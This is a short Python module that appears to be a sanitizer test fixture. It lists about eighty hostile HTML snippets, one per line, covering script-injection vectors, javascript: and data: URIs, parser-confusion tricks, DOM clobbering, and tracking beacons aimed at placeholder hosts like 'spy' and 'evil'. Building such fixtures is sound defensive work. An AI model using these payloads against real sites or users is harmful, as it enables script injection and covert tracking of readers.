"""What strangers write into HTML so that something runs, or tells them that it was read: one a line."""

from __future__ import annotations

HOSTILE_HTML = r"""
<script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe srcdoc="<script>alert(1)</script>">
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example">x</a>
<a href="/path">x</a>
<a href="\\evil.example">x</a>
<a href="http:/\evil.example">x</a>
<a href=x onclick=alert(1) style="x:expression(alert(1))">x</a>
<body onload=alert(1)>
<body background=javascript:alert(1)>
<table background="http://spy/">
<td background="http://spy/">
<div style="background:url(http://spy/1)">
<div style="background-image:url('//spy')">
<style>body{background:url(http://spy)}</style>
<link rel=stylesheet href=http://spy>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="http://evil/">
<object data="data:text/html,x"></object>
<embed src="http://evil/">
<applet code=x>
<video src=http://spy poster=http://spy autoplay></video>
<audio src=http://spy onerror=alert(1)>
<source srcset=http://spy>
<picture><source srcset=http://spy><img src=cid:a srcset="http://spy 2x"></picture>
<img src="cid:a" srcset="http://spy 1x">
<img src="http://spy/a.gif">
<img src="HTTP://spy/a.gif">
<img src=" http://spy/a.gif">
<img src="//spy/a.gif">
<img src="data:image/png;base64,AAAA">
<img src="file:///etc/passwd">
<img src="cid:logo@x">
<img src="CID:logo">
<img lowsrc=http://spy dynsrc=http://spy>
<input type=image src=http://spy>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=http://evil><textarea>x</textarea></form>
<isindex action=javascript:alert(1)>
<textarea><img src=x onerror=alert(1)></textarea>
<xmp><img src=x onerror=alert(1)></xmp>
<title><img src=x onerror=alert(1)></title>
<template><img src=x onerror=alert(1)></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<blockquote cite="http://spy">x</blockquote>
<q cite=javascript:alert(1)>x</q>
<del cite=http://spy>x</del>
<a href=http://ok ping=http://spy target=_top>x</a>
<map name=m><area href=javascript:alert(1)></map><img usemap=#m>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<div id=x name=cookie class=y>clobber</div>
<a id=document name=forms href=mailto:x@y>x</a>
<p dir=rtl lang=x title="<script>">x</p>
<frameset onload=alert(1)><frame src=http://evil>
<keygen autofocus onfocus=alert(1)>
<bgsound src=http://spy><layer src=http://spy>
<div data-x=http://spy itemid=http://spy>x</div>
<plaintext><script>alert(1)
""".strip().splitlines()
